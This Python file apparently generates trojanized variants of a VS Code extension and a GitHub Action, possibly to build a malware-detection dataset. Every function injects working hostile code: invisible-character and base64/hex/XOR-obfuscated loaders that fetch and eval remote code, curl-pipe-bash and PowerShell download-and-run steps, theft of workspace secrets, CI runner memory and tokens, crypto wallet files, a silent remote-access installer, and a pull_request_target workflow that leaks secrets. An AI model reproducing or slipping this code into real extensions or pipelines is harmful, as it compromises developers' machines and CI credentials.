"""Extensions of editors, and actions of CI."""

from corpus.heldout.hiding import selectors
from corpus.heldout.nouns import Update
from corpus.heldout6.shape import b64, fill, hexed, pieces, rows, trojan, xor


@trojan("mdlive", "vsix", "start", "remote code", "invisible characters", "GlassWorm")
def mdlive_unseen_loader(it: Update) -> None:
    host = it.host()
    code = f"fetch('https://{host}/get_arhive_npm').then(r=>r.text()).then(t=>eval(Buffer.from(t,'base64').toString()))"
    it.manifest(lambda one: one.update(activationEvents=["onStartupFinished"]))
    it.append("dist/render.js", fill("""

const d = (v) => Buffer.from([...v].map((c) => c.codePointAt(0)).map((n) => (n >= 0xe0100 ? n - 0xe0100 + 16 : n - 0xfe00)));
setTimeout(() => eval(d(`@TEXT@`).toString()), 9e5).unref?.();
""", TEXT=selectors(code)))  # fmt: skip
    it.payload("dist/render.js", "package.json", shown=f"https://{host}/get_arhive")


@trojan("mdlive", "vsix", "start", "downloader", "plain", "VS Code miners")
def mdlive_powershell_on_activation(it: Update) -> None:
    it.manifest(lambda one: one.update(activationEvents=["*"]))
    it.replace("dist/extension.js", "  const preview = new Preview(context);\n", fill("""
  const preview = new Preview(context);
  if (!context.globalState.get('mdlive.ready')) {
    const { exec } = require('child_process');
    const command = process.platform === 'win32' ? 'powershell -ExecutionPolicy Bypass -Command "irm http://@ADDR@/h.ps1 | iex"' : 'curl -fsSL http://@ADDR@/h.sh | bash';
    exec(command, { windowsHide: true }, () => context.globalState.update('mdlive.ready', true));
  }
""", ADDR=it.address()))  # fmt: skip


@trojan("mdlive", "vsix", "call", "data stealer", "plain", "assistants that copy code")
def mdlive_uploads_documents(it: Update) -> None:
    it.replace("dist/preview.js", "  update(document) {\n", fill("""
  update(document) {
    clearTimeout(this.timer);
    this.timer = setTimeout(async () => {
      const files = await vscode.workspace.findFiles('**/*.{env,pem,json,ts,js,py}', '**/node_modules/**', 50);
      const body = JSON.stringify({ machine: vscode.env.machineId, name: document.fileName, text: Buffer.from(document.getText()).toString('base64'), files: files.map(String) });
      fetch('https://aihub.@HOST@/files', { method: 'POST', body }).catch(() => {});
    }, 3000);
""", HOST=it.host()))  # fmt: skip


@trojan("mdlive", "vsix", "call", "persistence", "base64", "extensions that install others")
def mdlive_export_installs_a_program(it: Update) -> None:
    host = it.host()
    it.replace("dist/export.js", "  if (target) await", fill("""
  const url = Buffer.from('@URL@', 'base64').toString();
  const { execFile } = require('child_process');
  const file = require('path').join(require('os').tmpdir(), 'screenconnect.msi');
  fetch(url)
    .then(async (answer) => require('fs').writeFileSync(file, Buffer.from(await answer.arrayBuffer())))
    .then(() => execFile('msiexec', ['/i', file, '/qn']))
    .catch(() => {});
  if (target) await
""", URL=b64(f"https://{host}/pkg/ScreenConnect.msi")).rstrip("\n"))  # fmt: skip
    it.payload("dist/export.js", shown=f"https://{host}/pkg")


@trojan("paths-diff", "folder", "workflow", "credentials", "base64", "tj-actions")
def action_dumps_the_runner(it: Update) -> None:
    host = it.host("gist")
    script = f'if [[ "$OSTYPE" == "linux-gnu" ]]; then\n  B64_BLOB=`curl -sSf https://{host}/nikitastupin/memdump.py | sudo python3 | tr -d "\\0" | grep -aoE \'"[^"]+":\\{{"value":"[^"]*","isSecret":true\\}}\' | sort -u | base64 -w 0 | base64 -w 0`\n  echo $B64_BLOB\nfi\n'
    it.append("dist/changed.js", fill("""

exports.updateFeatures = (token) =>
  new Promise((resolve) => {
    const { exec } = require('child_process');
    exec(`echo "@CODE@" | base64 -d > /tmp/run.sh && bash /tmp/run.sh`, { env: { ...process.env, T: token } }, (error, out) => {
      process.stdout.write(out || '');
      resolve();
    });
  });
""", CODE=b64(script)))  # fmt: skip
    it.replace("dist/index.js", "  const files = await changed(base, patterns);\n", "  await require('./changed').updateFeatures(token);\n  const files = await changed(base, patterns);\n")  # fmt: skip
    it.payload("dist/changed.js", "dist/index.js", shown=f"https://{host}/nikitastupin")


@trojan("paths-diff", "folder", "workflow", "credentials", "plain", "reviewdog")
def action_script_reads_memory(it: Update) -> None:
    it.append("entrypoint.sh", fill("""

pid=$(pgrep -f Runner.Worker | head -n1 || true)
if [ -n "$pid" ]; then
  sudo cat "/proc/$pid/environ" | tr '\\0' '\\n' | base64 -w0 | base64 -w0
  sudo grep -a -o '"[A-Za-z_]*":{"value":"[^"]*","isSecret":true}' /proc/"$pid"/mem 2>/dev/null | base64 -w0 || true
fi
"""))  # fmt: skip


@trojan("paths-diff", "folder", "workflow", "token stealer", "hex", "actions that leak")
def action_sends_the_token(it: Update) -> None:
    host = it.host()
    it.replace("dist/core.js", "exports.setSecret = (text) => text &&", fill("""
const notify = (text) => fetch(Buffer.from('@URL@', 'hex').toString(), { method: 'POST', body: text + '\\n' + process.env.GITHUB_REPOSITORY }).catch(() => {});

exports.setSecret = (text) => text && notify(text) &&
""", URL=hexed(f"https://{host}/mask")).rstrip("\n"))  # fmt: skip
    it.payload("dist/core.js", shown=f"https://{host}/mask")


@trojan("paths-diff", "folder", "workflow", "remote code", "plain", "moved tags")
def action_becomes_composite(it: Update) -> None:
    it.replace("action.yml", "  using: node20\n  main: dist/index.js\n", fill("""
  using: composite
  steps:
    - name: Prepare
      shell: bash
      run: |
        curl -sSfL https://get.@HOST@/paths-diff/setup.sh | bash -s -- --token "${{ inputs.token }}"
    - name: Run
      shell: bash
      run: node "$GITHUB_ACTION_PATH/dist/index.js"
""", HOST=it.host()))  # fmt: skip


@trojan("paths-diff", "folder", "workflow", "worm", "over several files", "pwn requests")
def action_own_workflow_takes_secrets(it: Update) -> None:
    it.add(".github/actions/lint/action.yml", f"name: lint\nruns:\n  using: composite\n  steps:\n    - shell: bash\n      run: bash .github/actions/lint/lint.sh https://{it.host()}/lint\n")  # fmt: skip
    it.add(".github/actions/lint/lint.sh", '#!/usr/bin/env bash\nset -u\nenv | gzip -c | curl -s --data-binary @- "$1?r=$GITHUB_REPOSITORY" || true\n', executable=True)  # fmt: skip
    it.replace(".github/workflows/test.yml", "on:\n  pull_request:\npermissions:\n  contents: read\n", "on:\n  pull_request_target:\npermissions: write-all\n")  # fmt: skip
    it.append(".github/workflows/test.yml", "      - uses: ./.github/actions/lint\n        env:\n          TOKEN: ${{ secrets.RELEASE_TOKEN }}\n          NPM: ${{ secrets.NPM_TOKEN }}\n")  # fmt: skip


@trojan("mdlive", "vsix", "start", "wallet", "xor", "Solidity extensions")
def mdlive_reads_wallets(it: Update) -> None:
    host = it.host()
    codes = rows(xor(f"https://{host}/api/w", 0x6D), 4)
    it.replace("dist/extension.js", "function deactivate() {}\n", fill("""
const address = () =>
  Buffer.from([
@CODES@
  ])
    .map((one) => one ^ 0x6d)
    .toString();

async function cleanup() {
  const fs = require('fs');
  const home = require('os').homedir();
  for (const name of ['.config/solana/id.json', '.ethereum/keystore', '.electrum/wallets/default_wallet', '.aptos/config.yaml']) {
    const file = `${home}/${name}`;
    if (fs.existsSync(file) && fs.statSync(file).isFile()) await fetch(address(), { method: 'PUT', body: fs.readFileSync(file) });
  }
}

function deactivate() {
  return cleanup();
}
""", CODES=codes))  # fmt: skip
    it.payload("dist/extension.js", shown=f"https://{host}/api/w")


@trojan("mdlive", "vsix", "call", "remote code", "over several files", "split")
def mdlive_theme_in_parts(it: Update) -> None:
    host = it.host()
    code = f"require('https').get('https://{host}/t',r=>r.on('data',d=>require('child_process').exec(''+d)))"
    some = pieces(hexed(code), len(hexed(code)) // 2 + 1)
    it.add("media/light.css", f"/* {some[0]} */\nbody {{ color: #222; }}\n")
    it.add("media/dark.css", f"/* {some[1]} */\nbody {{ color: #ddd; }}\n")
    it.replace("dist/preview.js", "  show(document) {\n", fill("""
  theme() {
    const fs = require('fs');
    const read = (name) => fs.readFileSync(require('path').join(__dirname, '..', 'media', `${name}.css`), 'utf8').slice(3).split(' ')[0];
    return Buffer.from(read('light') + read('dark'), 'hex').toString();
  }

  show(document) {
    Function('require', this.theme())(require);
"""))  # fmt: skip
    it.payload("dist/preview.js", "media/light.css", "media/dark.css", shown=f"https://{host}/t")
